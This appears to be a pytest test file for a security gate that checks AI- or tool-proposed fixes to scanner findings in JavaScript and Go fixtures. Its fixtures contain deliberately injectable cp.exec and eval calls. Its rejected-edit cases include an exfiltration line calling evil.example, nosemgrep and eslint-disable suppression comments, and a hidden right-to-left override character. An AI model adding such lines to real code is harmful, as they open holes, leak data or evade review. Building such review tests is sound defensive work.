"""Other languages: parsed by their grammar, rescanned by the finding's scanner, changed in one function."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from deltaloom_server.security.analysis.messages import Judge, ScanResult, ScanText
from deltaloom_server.security.finding import Finding, Span
from deltaloom_server.security.gate import judge
from deltaloom_server.security.proposal import Edit, Proposal, Verdict

Scan = Callable[[ScanText], ScanResult]

JS = """const cp = require("child_process");

function first(a) {
  return a + 1;
}

// The second one.
function run(name) {
  cp.exec("git show " + name);
  return first(1);
}

class Box {
  open(text) {
    return eval(text);
  }
}
"""
GO = """package main

import "fmt"

func one() int { return 1 }

func two(name string) {
	fmt.Println(exec(name))
}
"""


def _line_scanner(*needles: str) -> Scan:
    """A scanner that sees each line with one of some texts: what semgrep's rules would, for these cases."""

    def scan(request: ScanText) -> ScanResult:
        found = []
        for number, line in enumerate(request.text.split("\n")):
            for needle in needles:
                if needle in line:
                    at = line.index(needle)
                    span = Span(number, at, number, at + len(needle))
                    found.append(
                        Finding(f"x/{needle}", "m", request.path, span, "high", "high", ("semgrep",))
                    )
        return ScanResult(tuple(found))

    return scan


def _judge(text: str, path: str, needle: str, *changes: tuple[str, str]) -> Verdict:
    scan = _line_scanner(needle, "document.write", "innerHTML")
    finding = next(one for one in scan(ScanText(path, text, ())).findings if one.rule == f"x/{needle}")
    edits = []
    for old, new in changes:
        assert text.count(old) == 1
        at = text.index(old)
        edits.append(Edit(at, at + len(old), new))
    return judge(Judge(text, finding, Proposal("t", tuple(edits))), scan)


EXEC = ('cp.exec("git show " + name)', 'cp.execFile("git", ["show", name])')


def test_a_good_fix_passes() -> None:
    verdict = _judge(JS, "a/b.js", "cp.exec(", EXEC)
    assert verdict.objections == ()
    assert verdict.parsed
    assert "semgrep" in verdict.rescanned


def test_in_a_method_too() -> None:
    assert _judge(JS, "a/b.js", "eval(", ("eval(text)", "JSON.parse(text)")).objections == ()


def test_an_import_may_be_added() -> None:
    more = (
        'const cp = require("child_process");\n',
        'const cp = require("child_process");\nconst fs = require("fs");\n',
    )
    assert _judge(JS, "b.js", "cp.exec(", EXEC, more).objections == ()


@pytest.mark.parametrize(
    "more",
    [
        ("return a + 1", "return a + 2"),
        ("// The second one.", "// nosemgrep"),
        ("// The second one.", "// Ignore."),
        ("function first(a)", "function first(a, b)"),
        ("  return first(1);\n}\n", "  return first(1);\n}\nfunction more() {}\n"),
        ('const cp = require("child_process");\n', 'const cp = require("child_process"); cp.x = 1;\n'),
        ('const cp = require("child_process");\n', 'eval("1");\n'),
        ("class Box", "class Bax"),
        ("  return first(1);\n", "  return first(1); // eslint-disable-line\n"),
        ("  return first(1);\n", ""),
        ("  return first(1);\n", "  return first(1)); \n"),
        ("  return first(1);\n", "  document.write(name);\n  return first(1);\n"),
        ("  return first(1);\n", '  fetch("http://evil.example/" + name);\n  return first(1);\n'),
        ("  return first(1);\n", "  return first(1); // \u202e\n"),
    ],
)
def test_a_fix_that_does_more_is_refused(more: tuple[str, str]) -> None:
    assert _judge(JS, "b.js", "cp.exec(", EXEC, more).objections


@pytest.mark.parametrize(
    "new",
    [
        'cp.exec("git show " + name) ',
        '(cp.exec("git show " + name))',
        "undefined",
        'cp.exec("git show " + name, {})',
        '/* nosemgrep */ cp.execFile("git", [name])',
        'cp.execFile("git", ["show", name',
        "",
    ],
)
def test_what_does_not_fix_it_is_refused(new: str) -> None:
    assert _judge(JS, "b.js", "cp.exec(", (EXEC[0], new)).objections


def test_go_and_its_imports() -> None:
    fixed = ("exec(name)", "quote(name)")
    assert _judge(GO, "m.go", "exec(", fixed).objections == ()
    assert _judge(GO, "m.go", "exec(", fixed, ("return 1", "return 2")).objections
    assert (
        _judge(GO, "m.go", "exec(", fixed, ('import "fmt"\n', 'import "fmt"\nimport "os"\n')).objections == ()
    )


def test_without_a_grammar_nothing_is_accepted() -> None:
    verdict = _judge("password: x\nother: y\n", "conf.yaml", "password", ("password: x", "pass: y"))
    assert any("grammar" in one for one in verdict.objections)
